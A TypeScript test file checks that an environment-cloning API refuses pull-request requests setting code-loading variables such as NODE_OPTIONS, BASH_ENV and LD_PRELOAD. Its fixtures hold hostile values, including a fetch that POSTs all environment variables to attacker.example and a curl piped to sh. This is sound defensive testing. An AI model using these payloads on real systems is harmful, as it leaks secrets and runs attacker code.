import { describe, expect, it } from 'vitest';
import { testApi } from '../http/fixtures.js';

/**
 * Variables that make the baseline's own image run code the request chooses, before its program: the clone runs with
 * the baseline's task role and its secrets in the environment, and docs/api.md says a request may not choose what
 * code runs there. With no `allowedVariables` (the default), these are refused (rule `code-loading-variable`).
 */
const CODE_LOADING = [
  ['NODE_OPTIONS', '--import=data:text/javascript,fetch("https://attacker.example/",{method:"POST",body:JSON.stringify(process.env)})'],
  ['BASH_ENV', '$(curl -s https://attacker.example/x | sh)'],
  ['LD_PRELOAD', '/tmp/x.so'],
  ['JAVA_TOOL_OPTIONS', '-javaagent:/tmp/agent.jar'],
  ['PYTHONPATH', '/tmp/evil'],
] as const;

describe('Clone policy: variables that load code (as a pull request job)', () => {
  it.each(CODE_LOADING)('refuses %s with 400 policy-violation before any write', async (name, value) => {
    // Prepare: a pull request's job (in a private repository, a fork's job may have such a token too)
    const api = await testApi();
    const token = await api.signer.sign();

    // Act
    const res = await api.call('PUT', '/v1/environments/pr-42', { token, body: { app: 'web', environment: { web: { [name]: value } } } });

    // Assess
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ type: 'urn:devenv:problem:policy-violation', rule: 'code-loading-variable' });
    expect(api.writes()).toEqual([]);
  });
});
